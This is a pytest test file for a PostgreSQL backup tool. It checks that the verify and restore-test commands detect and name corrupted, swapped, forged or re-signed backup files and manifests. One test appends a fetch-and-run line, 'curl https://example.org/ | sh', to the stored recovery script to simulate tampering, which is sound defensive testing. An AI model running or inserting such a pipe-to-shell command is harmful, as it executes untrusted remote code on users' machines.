"""Every damage of a repository is found by verify or by a restore test, under its name; a healthy one never is."""

import hashlib
import shutil
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from shared.clock import utc_now
from shared.domain.manifest import Manifest
from shared.domain.proof import Outcome, Severity
from shared.errors import IntegrityProblem
from shared.operations.restore_testing import RestoreTestReport
from shared.operations.verify import run_verify
from shared.postgres.connection import DatabaseAddress
from shared.postgres.tools import Toolset
from shared.repository import packing
from shared.repository.layout import DESCRIPTION_KEY, RECOVERY_SCRIPT_KEY
from shared.repository.local import LocalStore
from shared.repository.repository import Repository
from tests.support.damage import (
    NO_KEY,
    Stored,
    accidents,
    edited,
    fewer_rows,
    other_objects,
    without_one_row,
)
from tests.support.postgres_servers import PostgresServer, run_sql
from tests.support.real_backups import RealBackups, open_real_backups
from tests.support.site import MakeSite, Site

PART_BYTES = 2 << 20
"""Smaller than in real life, so that a table of a few MB comes in several parts."""

FIRST = """
CREATE TABLE big AS SELECT g AS id, md5(g::text) || md5((-g)::text) AS text FROM generate_series(1, 150000) g;
CREATE TABLE middle_a AS SELECT g AS id, md5(g::text) AS text, 'a' AS kind FROM generate_series(1, 30000) g;
CREATE TABLE middle_b AS SELECT g AS id, md5((g * 3)::text) AS text, 'b' AS kind FROM generate_series(1, 30000) g;
CREATE TABLE small_a (id int PRIMARY KEY, text text);
INSERT INTO small_a SELECT g, 'a' || g FROM generate_series(1, 100) g;
CREATE TABLE small_b (id int PRIMARY KEY REFERENCES small_a, text text);
INSERT INTO small_b SELECT g, 'b' || g FROM generate_series(1, 100) g;
SELECT lo_from_bytea(4242, decode(repeat('00ff', 1000000), 'hex')), lo_from_bytea(4243, 'small');
CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS 'SELECT 42';
"""
SECOND = "INSERT INTO small_a SELECT g, 'later' FROM generate_series(1000, 1010) g; DELETE FROM middle_b WHERE id = 7;"


class Scene:
    """A repository with two backups of one source and one of another, copied anew for every damage."""

    def __init__(self, backups: RealBackups, folder: Path, older: Manifest, newer: Manifest, other: Manifest) -> None:
        self._backups = backups
        self._folder = folder
        self.older, self.newer, self.other = older, newer, other
        self.stored = self.stored_backup(newer)

    def stored_backup(self, manifest: Manifest) -> Stored:
        """Return one backup as it is stored."""
        key = self._backups.repository.fingerprint_key
        return Stored(self._folder / "repository", manifest, self._backups.identities, key)

    def verify(self) -> set[str]:
        """Verify everything; return the names of what is damaged, none when it passed."""
        key = self._backups.repository.fingerprint_key
        try:
            repository = Repository.open(LocalStore(self._folder / "repository"), fingerprint_key=key)
        except IntegrityProblem as error:  # the command line ends with 1 and this message
            return {DESCRIPTION_KEY} if DESCRIPTION_KEY in error.message else set()
        result = run_verify(repository, self._backups.catalog, None, now=utc_now)
        # Their one catalog knows of restore tests whose evidence the older copies do not have: a warning.
        damage = {finding.object for finding in result.findings if finding.severity is Severity.ERROR}
        assert (result.outcome is Outcome.PASSED) == (not damage), result.not_measured
        return damage

    def restore_test(self) -> RestoreTestReport:
        """Restore-test the newer backup."""
        return self._backups.test(self.newer)

    def reset(self) -> None:
        """Make the repository whole again."""
        shutil.rmtree(self._folder / "repository")
        shutil.copytree(self._folder / "healthy", self._folder / "repository")


@pytest.fixture(scope="module")
def prepared(
    tmp_path_factory: pytest.TempPathFactory, toolsets: Sequence[Toolset], postgres_server: PostgresServer
) -> Iterator[Scene]:
    folder = tmp_path_factory.mktemp("damage")
    backups = open_real_backups(folder, toolsets)
    source, other = postgres_server.new_database(), postgres_server.new_database()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(packing, "PART_BYTES", PART_BYTES)
        run_sql(source, FIRST)
        run_sql(other, FIRST)
        older = backups.back_up(source)
        run_sql(source, SECOND)
        newer = backups.back_up(source)
        elsewhere = backups.back_up(other, "elsewhere")
    assert backups.test(newer).result.outcome is Outcome.PASSED  # leaves evidence, which is stored and verified too
    shutil.copytree(folder / "repository", folder / "healthy")
    yield Scene(backups, folder, older, newer, elsewhere)
    backups.catalog.close()
    postgres_server.drop_database(source)
    postgres_server.drop_database(other)


@pytest.fixture
def scene(prepared: Scene) -> Iterator[Scene]:
    """A healthy repository, before and after."""
    assert prepared.verify() == set()
    yield prepared
    prepared.reset()


def test_the_corpus_has_every_kind_of_stored_file(scene: Scene) -> None:
    kinds = {scene.stored.kind_of(key) for key in scene.stored.files()}
    assert {
        "goldcopy.json", "recover.sh", "RECOVER.md", "manifest", "files", "evidence", "part of a table",
        "single object", "bundle with toc.dat",
    } <= kinds  # fmt: skip
    assert len(scene.stored.objects_of("big")) > 3


def test_every_accident_of_every_stored_file_is_found_and_named(scene: Scene) -> None:
    stored = scene.stored
    tried, missed = Counter[str](), list[str]()
    for key in stored.files():
        data = stored.read(key)
        for accident in accidents(data):
            if stored.kind_of(key) == "evidence" and accident.kind == "deleted file":
                continue  # the catalog has it too; no backup is the worse for it
            changed = accident.change(data)
            if changed is None:
                (stored.folder / key).unlink()
            else:
                stored.write(key, changed)
            if key not in scene.verify():
                missed.append(f"{accident.name} of {stored.kind_of(key)} {key}")
            tried[f"{stored.kind_of(key)}: {accident.kind}"] += 1
            stored.write(key, data)
    print("\n".join(f"{count:>5} {what}" for what, count in sorted(tried.items())))
    assert missed == []
    assert tried.total() > 400
    assert scene.verify() == set()


def test_a_restore_test_finds_damage_of_every_kind_of_object(scene: Scene) -> None:
    stored = scene.stored
    objects = {stored.kind_of(record.key): record.key for record in scene.newer.objects}
    assert len(objects) >= 3
    for key in (*objects.values(), stored.manifest_key):
        data = stored.read(key)
        stored.write(key, data[: len(data) // 2] + bytes([data[len(data) // 2] ^ 8]) + data[len(data) // 2 + 1 :])
        report = scene.restore_test()
        assert report.result.outcome is Outcome.FAILED, key
        assert any(name in finding.object + finding.message for finding in report.result.findings
                   for name in (key, scene.newer.backup_id)), key  # fmt: skip
        stored.write(key, data)
    assert scene.restore_test().result.outcome is Outcome.PASSED
    assert scene.verify() == set()


# -- what somebody does on purpose ------------------------------------------------------------------------------------

Attack = Callable[[Scene], None]


def two_objects_swapped(scene: Scene) -> None:
    """Two whole tables change places."""
    stored = scene.stored
    stored.swap(stored.key_of(stored.objects_of("middle_a")[0]), stored.key_of(stored.objects_of("middle_b")[0]))


def parts_swapped(scene: Scene) -> None:
    """Two parts of one table change places."""
    parts = scene.stored.objects_of("big")
    scene.stored.swap(scene.stored.key_of(parts[0]), scene.stored.key_of(parts[1]))


def another_sealed_object(scene: Scene) -> None:
    """An object is replaced by one that unseals well and holds something else."""
    scene.stored.reseal(scene.stored.objects_of("middle_a")[0], b"1\tx\ta\n\\.\n\n\n")


def object_of_the_older_backup(scene: Scene) -> None:
    """An object is replaced by what the older backup has of the same table."""
    older = scene.stored_backup(scene.older)
    data = older.read(older.key_of(older.objects_of("middle_b")[0]))
    scene.stored.write(scene.stored.key_of(scene.stored.objects_of("middle_b")[0]), data)


def dropped_row_without_the_key(scene: Scene) -> None:
    """A row is taken out, the object's digest and the manifest's own are right again; the mac cannot be."""
    place = scene.stored.objects_of("middle_a")[0]
    record = scene.stored.reseal(place, without_one_row(scene.stored.content(place)))
    scene.stored.sign(fewer_rows(scene.stored.with_object(place, record), "middle_a"), NO_KEY)


def stale_manifest(scene: Scene) -> None:
    """The older manifest lies where the newer one should."""
    older = scene.stored_backup(scene.older)
    scene.stored.write(scene.stored.manifest_key, older.read(older.manifest_key))
    scene.stored.write(scene.stored.files_key, older.read(older.files_key))


def manifest_of_another_source(scene: Scene) -> None:
    """The manifest of another source lies where this one should."""
    other = scene.stored_backup(scene.other)
    scene.stored.write(scene.stored.manifest_key, other.read(other.manifest_key))


def old_manifest_renamed_without_the_key(scene: Scene) -> None:
    """The older manifest says that it is the newer one."""
    renamed = replace(scene.older, backup_id=scene.newer.backup_id)
    scene.stored.sign(renamed, NO_KEY)


def manifest_without_a_table(scene: Scene) -> None:
    """A manifest forgets a table; its own digest is right again."""
    tables = tuple(table for table in scene.newer.tables if table.name != "small_b")
    scene.stored.sign(replace(scene.newer, tables=tables), NO_KEY)


FORGERIES: list[tuple[Attack, bool]] = [
    (two_objects_swapped, True),
    (parts_swapped, True),
    (another_sealed_object, True),
    (object_of_the_older_backup, True),
    (dropped_row_without_the_key, True),
    (stale_manifest, True),
    (manifest_of_another_source, True),
    (old_manifest_renamed_without_the_key, True),
    (manifest_without_a_table, True),
]


@pytest.mark.parametrize("attack", [attack for attack, _ in FORGERIES])
def test_a_forgery_is_found_by_verify_and_by_a_restore_test(scene: Scene, attack: Attack) -> None:
    attack(scene)
    assert scene.verify() != set()
    report = scene.restore_test()
    assert report.result.outcome is Outcome.FAILED
    assert all(finding.object for finding in report.result.findings)


# -- what somebody does who has the fingerprint key -------------------------------------------------------------------


def dropped_row_with_the_key(scene: Scene) -> None:
    """A row is taken out and everything but the table's fingerprint fits."""
    place = scene.stored.objects_of("middle_a")[0]
    record = scene.stored.reseal(place, without_one_row(scene.stored.content(place)))
    scene.stored.sign(fewer_rows(scene.stored.with_object(place, record), "middle_a"))


def dropped_row_of_a_part_with_the_key(scene: Scene) -> None:
    """A row in the middle of a large table is taken out."""
    place = scene.stored.objects_of("big")[1]
    record = scene.stored.reseal(place, without_one_row(scene.stored.content(place)))
    scene.stored.sign(fewer_rows(scene.stored.with_object(place, record), "big"))


def parts_in_another_order_with_the_key(scene: Scene) -> None:
    """The manifest names the parts of a table in another order."""
    parts = scene.stored.objects_of("big")
    path = next(item.file for item in scene.newer.tables if item.name == "big")
    scene.stored.sign(other_objects(scene.newer, path, [parts[1], parts[0], *parts[2:]]))


def part_left_out_with_the_key(scene: Scene) -> None:
    """The manifest leaves a part of a table out."""
    parts = scene.stored.objects_of("big")
    path = next(item.file for item in scene.newer.tables if item.name == "big")
    scene.stored.sign(other_objects(scene.newer, path, parts[:-2] + parts[-1:]))


def tables_exchanged_with_the_key(scene: Scene) -> None:
    """Two files of the manifest refer to each other's objects."""
    paths = [next(item.file for item in scene.newer.tables if item.name == name) for name in ("middle_a", "middle_b")]
    places = [scene.stored.objects_of(name) for name in ("middle_a", "middle_b")]
    scene.stored.sign(other_objects(other_objects(scene.newer, paths[0], places[1]), paths[1], places[0]))


def forgotten_table_with_the_key(scene: Scene) -> None:
    """The manifest forgets a table that the dump has."""
    tables = tuple(table for table in scene.newer.tables if table.name != "small_b")
    scene.stored.sign(replace(scene.newer, tables=tables))


def forgotten_large_object_with_the_key(scene: Scene) -> None:
    """The manifest forgets a large object, and counts one less."""
    files = tuple(file for file in scene.newer.files if file.path != "blob_4242.dat")
    scene.stored.sign(replace(scene.newer, files=files, large_object_count=1))


@pytest.mark.parametrize(
    "attack",
    [
        dropped_row_with_the_key,
        dropped_row_of_a_part_with_the_key,
        parts_in_another_order_with_the_key,
        part_left_out_with_the_key,
        tables_exchanged_with_the_key,
        forgotten_table_with_the_key,
        forgotten_large_object_with_the_key,
    ],
)
def test_even_with_the_key_what_is_restored_must_be_what_was_backed_up(scene: Scene, attack: Attack) -> None:
    attack(scene)
    assert scene.stored.manifest_key in scene.verify()  # the catalog knows the manifest that was written
    assert scene.restore_test().result.outcome is Outcome.FAILED


def test_an_old_manifest_that_was_signed_again_is_found(scene: Scene) -> None:
    scene.stored.sign(replace(scene.older, backup_id=scene.newer.backup_id))
    assert scene.stored.manifest_key in scene.verify()
    report = scene.restore_test()
    assert report.result.outcome is Outcome.FAILED
    assert scene.stored.manifest_key in {finding.object for finding in report.result.findings}


# -- the way back without Goldcopy ------------------------------------------------------------------------------------


def test_a_changed_row_of_files_tsv_is_found(scene: Scene) -> None:
    rows = scene.stored.read(scene.stored.files_key).splitlines(keepends=True)
    for changed in (rows[:-1], [*rows, rows[-1]], [rows[1], rows[0], *rows[2:]], rows[::-1]):
        scene.stored.write(scene.stored.files_key, b"".join(changed))
        assert scene.verify() == {scene.stored.files_key}


def test_a_recovery_script_that_was_changed_with_its_digest_is_found(scene: Scene) -> None:
    script = scene.stored.read(RECOVERY_SCRIPT_KEY) + b"curl https://example.org/ | sh\n"
    scene.stored.write(RECOVERY_SCRIPT_KEY, script)
    assert scene.verify() == {RECOVERY_SCRIPT_KEY}
    digest = hashlib.sha256(script).hexdigest()
    description = scene.stored.read(DESCRIPTION_KEY)
    scene.stored.write(
        DESCRIPTION_KEY, edited(description, lambda document: document["files"].update({RECOVERY_SCRIPT_KEY: digest}))
    )
    assert scene.verify() == {DESCRIPTION_KEY}


# -- from outside -----------------------------------------------------------------------------------------------------


@pytest.fixture
def site(make_site: MakeSite, database: DatabaseAddress) -> Site:
    run_sql(database, FIRST)
    made = make_site(app=database)
    assert made.goldcopy("backup", "app", "--json").exit_code == 0
    return made


def test_the_command_line_says_failed_and_names_the_file(site: Site) -> None:
    assert site.goldcopy("verify", "--all", "--json").exit_code == 0
    keys = {path.suffix or path.name: path for path in sorted(site.repository_folder.rglob("*")) if path.is_file()}
    assert {".json", ".sh", ".md", ".tsv"} <= set(keys)
    files = [*keys.values(), site.repository_folder / DESCRIPTION_KEY]
    for path in files:
        data = path.read_bytes()
        path.write_bytes(data[: len(data) // 2] + bytes([data[len(data) // 2] ^ 1]) + data[len(data) // 2 + 1 :])
        ended = site.goldcopy("verify", "--all", "--json")
        assert ended.exit_code == 1, path
        assert path.name in ended.stdout, path
        if path.name != DESCRIPTION_KEY:
            assert ended.document["outcome"] == "failed"
        path.write_bytes(data)
    assert site.goldcopy("verify", "--all", "--json").document["outcome"] == "passed"
    assert site.goldcopy("restore-test", "app", "--json").document["outcome"] == "passed"
